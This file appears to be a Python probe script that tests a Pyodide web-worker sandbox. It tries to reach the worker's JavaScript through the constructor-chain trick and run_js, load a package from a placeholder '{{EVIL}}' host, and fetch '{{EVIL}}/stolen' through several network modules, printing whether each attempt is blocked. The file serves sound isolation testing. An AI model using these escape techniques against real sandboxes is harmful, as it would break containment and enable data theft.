# What Python could try besides: every way to the worker's own JavaScript, and the network modules.
def try_(name, attempt):
    try:
        print(f"{name} -> REACHED: {str(attempt())[:80]!r}")
    except BaseException as error:
        print(f"{name} -> blocked: {type(error).__name__}: {str(error)[:80]!r}")


def js(name):
    import js

    return getattr(js, name)


def run_js():
    from pyodide.code import run_js

    return run_js("self.postMessage(1)")


def constructor():
    from pyodide.ffi import to_js

    return to_js([]).constructor.constructor("return self")()


def through_module():
    import pyodide_js

    return pyodide_js.constructor.constructor("return self")()


async def module_fetch():
    import pyodide_js

    await pyodide_js.loadPackage("{{EVIL}}/stolen.whl")
    return __import__("stolen")


def urlopen(url):
    from urllib.request import urlopen

    return urlopen(url, timeout=1).read()


def connect():
    import socket

    return socket.create_connection(("127.0.0.1", int("{{EVIL}}".rsplit(":", 1)[1])), timeout=1).send(b"GET /stolen HTTP/1.0\r\n\r\n")


def pyfetch():
    import asyncio
    from pyodide.http import pyfetch

    return asyncio.run(pyfetch("{{EVIL}}/stolen"))


def open_url():
    from pyodide.http import open_url

    return open_url("{{EVIL}}/stolen")


def xhr():
    from pyodide.http import pyxhr

    return pyxhr.get("{{EVIL}}/stolen")


for name in ("fetch", "postMessage", "XMLHttpRequest", "WebSocket", "indexedDB", "caches", "self", "eval", "Function"):
    try_(f"js.{name}", lambda: js(name))
try_("run_js", run_js)
try_("constructor", constructor)
try_("through the module", through_module)
try_("load a package", lambda: __import__("asyncio").run(module_fetch()))
try_("urllib own", lambda: urlopen("{{SITE}}/stolen"))
try_("urllib evil", lambda: urlopen("{{EVIL}}/stolen"))
try_("socket", connect)
try_("pyfetch", pyfetch)
try_("open_url", open_url)
try_("pyxhr", xhr)
try_("a process", lambda: __import__("subprocess").run(["true"]))
